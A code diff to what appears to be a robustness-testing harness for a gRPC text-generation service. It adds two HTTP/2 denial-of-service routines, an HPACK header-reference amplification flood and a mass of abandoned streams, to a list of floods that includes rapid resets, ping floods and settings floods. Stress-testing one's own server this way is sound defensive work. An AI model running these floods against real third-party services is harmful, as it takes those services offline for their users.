@@ -182,6 +182,20 @@ def rapid_resets(peer, until):
         peer.take_frames(0)
 
 
+def small_references(peer, until):
+    """The same within what a header block may hold, and no settings acknowledged: gRPC takes any size until then."""
+    entry = b"\x40" + bytes([1]) + b"x" + b"\x7f\x80\x1e" + b"v" * 3967
+    peer.send(frame(HEADERS, END_HEADERS, 1, request_headers(GENERATION + "Generate", peer.authority) + entry))
+    block = request_headers(GENERATION + "Generate", peer.authority) + b"\xbe" * 240
+    for stream in range(3, 2000, 2):
+        peer.send(frame(HEADERS, END_HEADERS, stream, block))
+
+
+def abandoned_streams(peer, until):
+    for _ in range(1000):
+        peer.headers(GENERATION + "Generate")
+
+
 def ping_flood(peer, until):
     while time.monotonic() < until:
         peer.send(frame(PING, payload=b"12345678") * 100)
@@ -235,8 +249,8 @@ def half_http(metrics_address, source, until):
 
 
 ATTACKS = [quadratic_lists, all_wrong, long_texts, wide_masks, half_uploads, unread_answers, connection_storm,
-           header_flood, table_flood, rapid_resets, ping_flood, settings_flood, stalled_readers, reflection_streams,
-           long_names, cancelled_calls, half_http]
+           header_flood, table_flood, small_references, rapid_resets, abandoned_streams, ping_flood, settings_flood,
+           stalled_readers, reflection_streams, long_names, cancelled_calls, half_http]
 
 
 def main(address, metrics_address, name, source, seconds):
